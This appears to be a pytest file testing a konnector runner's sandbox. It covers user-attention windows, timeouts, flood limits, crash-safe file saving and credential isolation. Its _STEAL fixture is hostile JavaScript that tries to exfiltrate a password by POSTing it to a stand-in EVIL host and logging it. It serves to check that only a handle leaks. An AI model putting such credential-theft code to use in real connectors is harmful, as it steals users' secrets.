"""A person in the loop, and what ends a run early: konnector-bridge.md §4.4."""

from __future__ import annotations

import asyncio
import signal
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from konnector_runner.browser_choice import BrowserChoice, Screen, find_screen
from konnector_runner.events import EventKind, RunEvent, RunReport
from konnector_runner.konnector import Konnector
from konnector_runner.limits import RunLimits
from konnector_runner.page_front import PageFront
from konnector_runner.run import run_konnector
from tests.runner.harness import SECRET, MemorySource, konnector, run
from tests.runner.site import page, serve
from tests.screen import unseen_screen

pytestmark = [pytest.mark.browser, pytest.mark.slow]
_LIMITS = RunLimits(run_seconds=90)


@pytest.fixture(name="screen")
def _screen(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    with unseen_screen() as name:
        monkeypatch.setenv("DISPLAY", name)
        yield


def _run(
    tested: Konnector, folder: Path, choice: BrowserChoice, heard: list[RunEvent]
) -> RunReport:
    return asyncio.run(
        run_konnector(
            tested,
            MemorySource(),
            folder=folder,
            browser=choice,
            on_event=heard.append,
            limits=_LIMITS,
        )
    )


_CAPTCHA = """
    async ensureAuthenticated() {
        await this.goto(BANK + '/')
        this.log('info', 'attempt with ' + await this.runInWorker('workCookie'))
        await this.runInWorker('workMark')
        await this.setWorkerState({ visible: true })
        await this.saveIdentity({ seen: await this.runInWorker('workCookie') })
        await this.blockWorkerInteractions()
        await this.unblockWorkerInteractions()
        await this.setWorkerState({ visible: false })
    },
    async workMark() { document.cookie = 'mark=first' },
    async workCookie() { return document.cookie || 'nothing' }
"""


def test_a_window_opens_where_the_person_is_needed(
    tmp_path: Path, screen: None
) -> None:
    """Not before; the run begins anew in it with the same profile, and says so."""
    heard: list[RunEvent] = []
    with serve({"/": page()}) as site:
        choice = BrowserChoice(screen=find_screen())
        report = _run(konnector(site, _CAPTCHA), tmp_path, choice, heard)

    assert report.error is None, report.error
    assert report.identity == {"seen": "mark=first"}
    attempts = [line for line in report.log if "attempt with" in line]
    assert [line.rpartition(" ")[2] for line in attempts] == ["nothing", "mark=first"]
    told = [event.text for event in heard if event.kind is EventKind.ATTENTION]
    assert len(told) == 2
    assert "close it to stop" in told[1]


def test_without_a_screen_the_run_says_that_it_needs_a_person(tmp_path: Path) -> None:
    """With the code after which nobody tries again by himself, and what to do."""
    heard: list[RunEvent] = []
    with serve({"/": page()}) as site:
        choice = BrowserChoice(screen=Screen.NONE)
        report = _run(konnector(site, _CAPTCHA), tmp_path, choice, heard)

    assert report.error is not None
    assert report.error.code == "USER_ACTION_NEEDED"
    assert report.error.needs_person
    told = [event.text for event in heard if event.kind is EventKind.ATTENTION]
    assert len(told) == 1
    assert "no screen" in told[0]


def test_whoever_closes_the_window_stops_the_run(
    tmp_path: Path, screen: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It is not taken for a fault of the browser's."""
    methods = """
    async ensureAuthenticated() {
        await this.goto(BANK + '/')
        await this.setWorkerState({ visible: true })
        await new Promise(() => {})
    }
    """
    show = PageFront.show

    async def show_and_close(tab: PageFront, *, visible: bool = True) -> None:
        await show(tab, visible=visible)
        # As the person's click on the window's corner does it: unasked by us.
        await tab._pipe.send("Target.closeTarget", {"targetId": tab._target})

    monkeypatch.setattr(PageFront, "show", show_and_close)
    with serve({"/": page()}) as site:
        choice = BrowserChoice(headless=False, screen=find_screen())
        report = _run(konnector(site, methods), tmp_path, choice, [])

    assert report.error is not None
    assert (report.error.code, report.error.message) == (
        "USER_ACTION_NEEDED",
        "stopped by the user",
    )


@pytest.mark.parametrize("endless", [True, False])
def test_a_konnector_that_never_ends_is_ended(tmp_path: Path, endless: bool) -> None:
    """With the protocol's words; the control ends by itself."""
    forever = "await new Promise(() => {})" if endless else ""
    methods = f"async fetch() {{ {forever} }}"
    limits = RunLimits(run_seconds=8)
    report = run(konnector(None, methods), MemorySource(), tmp_path, limits=limits)

    if not endless:
        assert report.error is None
        return
    assert report.error is not None
    assert report.error.message == "context deadline exceeded"


_FLOOD = """
    async fetch() {
        for (let i = 0; i < 5000; i++) this.log('info', 'x'.repeat(9000))
        let refused = 0
        const calls = []
        for (let i = 0; i < 300; i++) calls.push(
            this.runInWorker('workNever').catch(err => {
                if (err.message !== 'too many calls at once') throw err
                refused += 1
            }))
        // Those that are answered at all are the refused ones.
        await Promise.race(calls)
        await Promise.all(calls.slice(256))
        throw new Error('REFUSED_' + refused)
    },
    async workNever() { await new Promise(() => {}) }
"""


def test_a_konnector_that_floods_is_bounded(tmp_path: Path) -> None:
    """Its log, and how many calls it may have open, end somewhere.

    The control is the first 256 calls, which are open as anyone's.
    """
    limits = replace(_LIMITS, log_lines=100)
    report = run(konnector(None, _FLOOD), MemorySource(), tmp_path, limits=limits)

    assert report.error is not None
    assert report.error.message == "REFUSED_44"
    assert len(report.log) == 100
    assert max(len(line) for line in report.log) <= limits.log_characters


_STEAL = """
    async ensureAuthenticated() {
        await this.goto(BANK + '/')
        const { password } = await this.getCredentials()
        const leak = async what => {
            try { return String(await what()) }
            catch (err) { return err.message || err }
        }
        const said = {
            is: password === 'SECRET',
            cut: password.slice(0, 3),
            posted: await leak(() =>
                fetch(EVIL + '/seen', { method: 'POST', body: password })),
            elsewhere: await leak(async () => {
                await this.goto(EVIL + '/')
                return this.runInWorker('workSend', [password], 'p=' + password)
            })
        }
        this.log('info', 'the password is ' + password)
        await this.saveIdentity(said)
        await this.bridge.call('saveAccountData', { password })
        await this.saveCredentials({ other: 'x' + password })
    },
    async workSend(list, text) {
        await fetch('/seen', { method: 'POST', body: JSON.stringify([list, text]) })
    }
"""


@pytest.mark.parametrize("naive", [False, True])
def test_a_hostile_konnector_gets_the_password_nowhere(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, naive: bool
) -> None:
    """Compared, cut, posted, printed, kept, sent to a page elsewhere: only a handle.

    The control is a launcher that hands the password out, as the Cozy app does.
    """
    if naive:
        monkeypatch.setattr("konnector_runner.handles.Handles.issue", lambda *_: SECRET)
    heard: list[RunEvent] = []
    with serve({"/": page()}) as site:
        source = MemorySource(site.bank)
        methods = _STEAL.replace("SECRET", SECRET)
        report = run(konnector(site, methods), source, tmp_path, events=heard)

        seen = "\n".join(site.seen)
    assert isinstance(report.identity, dict)
    assert report.identity["is"] is naive
    assert (SECRET in seen) is naive
    # Even then what the run says of itself holds none of it, as long as it was
    # released; here it never was.
    if not naive:
        told = repr(report) + repr(heard) + repr(source.own) + repr(source.proposed)
        assert SECRET not in told
        assert source.proposed == []


@pytest.mark.parametrize("granted", [False, True])
def test_plain_text_is_only_for_who_was_granted_it_by_name(
    tmp_path: Path, granted: bool
) -> None:
    """Then the code has it, the record says so, and the report redacts it."""
    methods = f"""
    async ensureAuthenticated() {{
        const {{ password }} = await this.getCredentials()
        this.log('info', 'it is ' + password)
        await this.saveIdentity({{ same: password === '{SECRET}' }})
    }}
    """
    source = MemorySource("null", plaintext=["password"] if granted else [])
    report = run(konnector(None, methods), source, tmp_path)

    assert report.identity == {"same": granted}
    assert SECRET not in repr(report)
    purposes = [each.purpose for each in report.releases if each.field == "password"]
    expected = ["handed to the konnector's code as plain text"] if granted else []
    assert purposes == expected


_KILLED = """
import asyncio, sys
from pathlib import Path
from konnector_runner.events import EventKind
from tests.runner.harness import MemorySource, konnector
from konnector_runner.run import run_konnector
METHODS = '''
    async fetch(context) {
        for (let i = 0; ; i++) {
            const file = { filename: i + '.txt', filestream: 'x'.repeat(200000) }
            await this.saveFiles([file], { context, fileIdAttributes: ['filename'] })
        }
    }
'''
def tell(event):
    if event.kind is EventKind.FILE_SAVED:
        print(event.text, flush=True)
asyncio.run(run_konnector(
    konnector(None, METHODS), MemorySource(), folder=Path(sys.argv[1]), on_event=tell))
"""


def test_a_run_that_is_killed_leaves_no_half_file(tmp_path: Path) -> None:
    """Whatever is there under a name is whole; the browser ends with its runner."""
    with subprocess.Popen(
        [sys.executable, "-c", _KILLED, str(tmp_path)],
        stdout=subprocess.PIPE,
        text=True,
        cwd=Path(__file__).parents[2],
    ) as process:
        assert process.stdout is not None
        for _ in range(5):
            assert process.stdout.readline()
        process.send_signal(signal.SIGKILL)

    files = list((tmp_path / "someone").glob("[0-9]*.txt"))
    assert len(files) >= 5
    assert {path.stat().st_size for path in files} == {200_000}
    # The next run tidies up, and takes over what the index had no time to name.
    again = run(
        konnector(
            None,
            """async fetch(context) {
            const file = { filename: '0.txt', filestream: 'x'.repeat(200000) }
            await this.saveFiles([file], { context, fileIdAttributes: ['filename'] })
            }""",
        ),
        MemorySource(),
        tmp_path,
    )
    assert again.error is None
    assert again.already_there == 1
    assert not list(tmp_path.rglob(".clisk-*.part"))
